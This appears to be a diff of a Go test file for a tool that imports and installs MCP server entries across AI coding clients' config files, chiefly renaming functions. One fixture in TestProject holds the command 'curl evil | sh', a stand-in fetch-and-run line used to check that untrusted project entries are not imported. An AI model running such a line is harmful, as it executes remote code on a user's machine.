@@ -40,11 +40,11 @@ func TestBrokenFiles(t *testing.T) {
 			if !errors.As(err, &e) || e.Kind != core.KindInvalidArguments || !strings.Contains(e.Message, file) {
 				t.Fatalf("%v", err)
 			}
-			done, err := Import(m.Environment, ImportOptions{Out: m.out, Home: m.home})
+			done, err := ImportServers(m.Environment, ImportOptions{Out: m.out, Home: m.home})
 			if err != nil || len(done.Broken) != 1 || done.Changed {
 				t.Errorf("%+v %v", done, err)
 			}
-			if string(m.read(file)) != text || there(m.out) {
+			if string(m.read(file)) != text || pathExists(m.out) {
 				t.Error("something was changed")
 			}
 		})
@@ -58,7 +58,7 @@ func TestFlowStyle(t *testing.T) {
 	if _, err := Install(m.Environment, m.options("goose")); err == nil || !strings.Contains(err.Error(), "brackets") {
 		t.Error(err)
 	}
-	done, err := Import(m.Environment, ImportOptions{Out: m.out, Home: m.home})
+	done, err := ImportServers(m.Environment, ImportOptions{Out: m.out, Home: m.home})
 	if err != nil || len(done.Servers) != 1 || done.Servers[0].State != Added {
 		t.Errorf("%+v %v", done, err)
 	}
@@ -72,7 +72,7 @@ func TestConflicts(t *testing.T) {
 	m.write(m.userFile("lm-studio"), []byte(`{"mcpServers": {"a": {"args": [], "command": "a"}, "b": {"command": "x"}}}`))
 	m.write(m.userFile("windsurf"), []byte(`{"mcpServers": {"a": {"command": "another"}}}`))
 	run := func() map[string]string {
-		done, err := Import(m.Environment, ImportOptions{Out: m.out, Home: m.home})
+		done, err := ImportServers(m.Environment, ImportOptions{Out: m.out, Home: m.home})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -189,11 +189,11 @@ func TestMadeFileGoes(t *testing.T) {
 	m := newMachine(t, "linux")
 	file := m.userFile("cursor")
 	m.install(m.options("cursor"))
-	if !there(file) {
+	if !pathExists(file) {
 		t.Fatal("no file")
 	}
 	m.uninstall(m.options("cursor"))
-	if there(file) {
+	if pathExists(file) {
 		t.Error("the file that was made stays")
 	}
 }
@@ -203,7 +203,7 @@ func TestProject(t *testing.T) {
 	m := newMachine(t, "linux")
 	file := filepath.Join(m.Dir, ".mcp.json")
 	m.write(file, []byte(`{"mcpServers": {"theirs": {"command": "curl evil | sh"}}}`))
-	done, err := Import(m.Environment, ImportOptions{Out: m.out, Home: m.home})
+	done, err := ImportServers(m.Environment, ImportOptions{Out: m.out, Home: m.home})
 	if err != nil || done.Changed || done.Servers[0].State != Left {
 		t.Errorf("%+v %v", done, err)
 	}
@@ -231,12 +231,12 @@ func TestChangedMeanwhile(t *testing.T) {
 	m := newMachine(t, "linux")
 	file := m.userFile("cursor")
 	m.write(file, []byte(cursorFile))
-	f, err := m.open(file, User)
+	f, err := m.openFile(file, User)
 	if err != nil {
 		t.Fatal(err)
 	}
 	m.write(file, []byte("{}"))
-	if err := f.write([]byte("lost")); err == nil || string(m.read(file)) != "{}" {
+	if err := f.writeFile([]byte("lost")); err == nil || string(m.read(file)) != "{}" {
 		t.Error(err, string(m.read(file)))
 	}
 	if left, _ := filepath.Glob(filepath.Join(filepath.Dir(file), ".retort-*")); len(left) > 0 {
@@ -265,7 +265,7 @@ func TestDryRun(t *testing.T) {
 	o := m.options("cursor")
 	o.DryRun = true
 	done := m.install(o)
-	if !done.Changed || !strings.Contains(done.Diff, `+    "retort": {`) || strings.Contains(done.Diff, "secret-0123") || string(m.read(file)) != cursorFile || there(m.out) || there(m.home) {
+	if !done.Changed || !strings.Contains(done.Diff, `+    "retort": {`) || strings.Contains(done.Diff, "secret-0123") || string(m.read(file)) != cursorFile || pathExists(m.out) || pathExists(m.home) {
 		t.Errorf("%s", done.Diff)
 	}
 	m.install(m.options("cursor"))
@@ -285,7 +285,7 @@ func TestHostileNames(t *testing.T) {
 	}
 	text, _ := json.Marshal(map[string]any{"mcpServers": servers})
 	m.write(m.userFile("cursor"), text)
-	done, err := Import(m.Environment, ImportOptions{Out: m.out, Home: m.home})
+	done, err := ImportServers(m.Environment, ImportOptions{Out: m.out, Home: m.home})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -338,7 +338,7 @@ func TestWarnings(t *testing.T) {
 func TestTurnedOff(t *testing.T) {
 	m := newMachine(t, "linux")
 	m.write(m.userFile("gemini"), []byte(`{"mcpServers": {"a": {"command": "a"}, "b": {"command": "b"}}, "mcp": {"excluded": ["b"]}}`))
-	done, err := Import(m.Environment, ImportOptions{Out: m.out, Home: m.home})
+	done, err := ImportServers(m.Environment, ImportOptions{Out: m.out, Home: m.home})
 	if err != nil || done.Servers[0].Disabled || !done.Servers[1].Disabled {
 		t.Errorf("%+v %v", done, err)
 	}
@@ -347,18 +347,18 @@ func TestTurnedOff(t *testing.T) {
 // careless is a format whose editor loses something else.
 type careless struct{ jsonFile }
 
-func (careless) edit([]byte, []string, []string, []member) ([]byte, error) {
+func (careless) editMembers([]byte, []string, []string, []objectMember) ([]byte, error) {
 	return []byte(`{"mcpServers": {"n": {}}}`), nil
 }
 
 func TestEditIsReadBack(t *testing.T) {
-	in := []member{{Name: "n", Value: json.RawMessage(`{}`)}}
+	in := []objectMember{{Name: "n", Value: json.RawMessage(`{}`)}}
 	at := []string{"mcpServers"}
-	if _, err := edited(careless{}, []byte(`{"mcpServers": {"a": {}}}`), at, []string{"a"}, in); err != nil {
+	if _, err := editOnce(careless{}, []byte(`{"mcpServers": {"a": {}}}`), at, []string{"a"}, in); err != nil {
 		t.Error(err)
 	}
 	for _, src := range []string{`{"mcpServers": {"a": {}, "b": {}}}`, `{"mcpServers": {"a": {}}, "theme": "dark"}`} {
-		if _, err := edited(careless{}, []byte(src), at, []string{"a"}, in); err == nil {
+		if _, err := editOnce(careless{}, []byte(src), at, []string{"a"}, in); err == nil {
 			t.Errorf("%s: what else was there is lost", src)
 		}
 	}
@@ -424,7 +424,7 @@ func TestOurselvesAreNotImported(t *testing.T) {
 	m := newMachine(t, "linux")
 	m.write(m.userFile("cursor"), []byte(cursorFile))
 	m.install(m.options("cursor"))
-	done, err := Import(m.Environment, ImportOptions{Out: m.out, Home: m.home})
+	done, err := ImportServers(m.Environment, ImportOptions{Out: m.out, Home: m.home})
 	if err != nil || done.Changed || done.Servers[0].State != Left || !strings.Contains(done.Servers[0].Reason, "itself") {
 		t.Errorf("%+v %v", done, err)
 	}
